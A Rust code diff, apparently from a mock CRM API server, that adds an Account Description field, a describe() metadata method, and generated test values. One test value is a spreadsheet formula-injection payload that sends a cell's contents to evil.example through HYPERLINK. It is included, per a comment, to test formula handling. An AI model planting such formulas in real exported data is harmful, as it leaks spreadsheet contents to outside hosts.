@@ -54,6 +54,7 @@ impl Object {
                 "NumberOfEmployees",
                 "Phone",
                 "Website",
+                "Description",
                 "BillingCity",
                 "BillingCountry",
                 "OwnerId",
@@ -82,6 +83,46 @@ impl Object {
             Object::Account => &[("Contacts", Object::Contact)],
             _ => &[],
         }
+    }
+
+    pub const ALL: [Object; 4] = [Object::Account, Object::Contact, Object::User, Object::Organization];
+
+    /// `describe` of this object: fields with their types, and relationships both ways.
+    pub fn describe(self) -> Value {
+        let field_type = |f: &str| match f {
+            "Id" => "id",
+            "IsDeleted" | "IsActive" | "IsSandbox" => "boolean",
+            "AnnualRevenue" => "currency",
+            "NumberOfEmployees" => "int",
+            "Phone" => "phone",
+            "Website" => "url",
+            "Email" | "Username" => "email",
+            "Description" => "textarea",
+            "CreatedDate" | "LastModifiedDate" | "TrialExpirationDate" => "datetime",
+            f if f.ends_with("Id") => "reference",
+            _ => "string",
+        };
+        let fields: Vec<Value> = self
+            .fields()
+            .iter()
+            .map(|f| {
+                let parent = self.parents().iter().find(|(rel, _)| format!("{rel}Id") == *f);
+                json!({
+                    "name": f,
+                    "label": f,
+                    "type": field_type(f),
+                    "relationshipName": parent.map(|(rel, _)| *rel),
+                    "referenceTo": parent.map(|(_, o)| vec![o.name()]).unwrap_or_default(),
+                    "nillable": !matches!(*f, "Id" | "Name" | "IsDeleted"),
+                })
+            })
+            .collect();
+        let children: Vec<Value> = self
+            .children()
+            .iter()
+            .map(|(rel, o)| json!({"relationshipName": rel, "childSObject": o.name(), "field": format!("{}Id", self.name())}))
+            .collect();
+        json!({"name": self.name(), "label": self.name(), "queryable": true, "keyPrefix": self.prefix(), "fields": fields, "childRelationships": children})
     }
 }
 
@@ -208,6 +249,16 @@ impl Dataset {
             (Object::Account, "NumberOfEmployees") => json!((i * 31) % 5000 + 1),
             (Object::Account, "Phone") | (Object::Contact, "Phone") => json!(format!("+1 415 555 {:04}", i % 10_000)),
             (Object::Account, "Website") => json!(format!("https://account{}.example.com", i + 1)),
+            // Long text as users type it: line breaks and tabs, a long paragraph, and cells a
+            // spreadsheet would run as formulas.
+            (Object::Account, "Description") => match i % 6 {
+                0 => json!(format!("Key account {}.\nRenewal due in Q3;\tcontact: procurement.", i + 1)),
+                1 => json!("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")"),
+                2 => json!(format!("{} The account was created when two regional distributors merged; it buys hardware, support contracts and training for about forty sites, and its procurement rules require three quotes for any order above fifty thousand dollars.", "Long note:")),
+                3 => json!("+1 call back after 5pm"),
+                4 => Value::Null,
+                _ => json!(format!("客户 {} 的备注", i + 1)),
+            },
             (Object::Account, "BillingCity") => json!(CITIES[i % CITIES.len()].0),
             (Object::Account, "BillingCountry") => json!(CITIES[i % CITIES.len()].1),
             (Object::Account, "OwnerId") | (Object::Contact, "OwnerId") | (Object::Contact, "AccountId") => {
